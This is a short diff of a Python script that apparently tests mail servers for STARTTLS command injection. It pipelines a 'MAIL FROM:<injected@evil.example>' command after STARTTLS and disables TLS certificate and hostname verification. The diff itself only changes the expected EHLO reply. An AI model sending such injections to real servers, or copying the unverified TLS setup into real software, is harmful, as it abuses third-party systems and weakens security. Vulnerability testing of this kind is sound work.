@@ -383,7 +383,7 @@ def lines(sock, until):
         data += c
     return data.decode()
 print(lines(s, b"\r\n").strip())
-s.sendall(b"EHLO x\r\n"); lines(s, b"250 HELP\r\n")
+s.sendall(b"EHLO x\r\n"); lines(s, b"250 DSN\r\n")
 s.sendall(b"STARTTLS\r\nMAIL FROM:<injected@evil.example>\r\n")
 print(lines(s, b"\r\n").strip())
 ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
